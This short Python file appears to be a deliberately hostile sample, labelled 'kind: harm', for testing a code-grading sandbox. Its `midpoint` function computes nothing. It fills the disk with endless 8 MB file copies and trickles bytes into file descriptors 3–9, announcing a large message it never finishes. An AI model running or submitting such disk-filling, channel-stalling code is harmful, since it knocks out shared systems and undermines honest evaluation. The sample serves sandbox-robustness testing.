"""Sends its answer byte by byte, so that nobody has to wait for it for long, and writes files meanwhile.

kind: harm
A, B, C: nothing
"""

# %%
import os


def midpoint(a, b):
    file = os.open("{marker}", os.O_CREAT | os.O_RDWR)
    os.write(file, bytes(8 * 2**20))
    drip(b"\x00\x80\x00\x00")  # a message of 8 MB follows
    number = 0
    while True:
        number += 1
        copy = os.open("{marker}" + str(number), os.O_CREAT | os.O_WRONLY)
        os.lseek(file, 0, os.SEEK_SET)
        os.sendfile(copy, file, 0, 8 * 2**20)
        os.close(copy)
        drip(b"\x00")


def drip(data):
    for descriptor in range(3, 10):
        try:
            os.write(descriptor, data)
        except OSError:
            pass
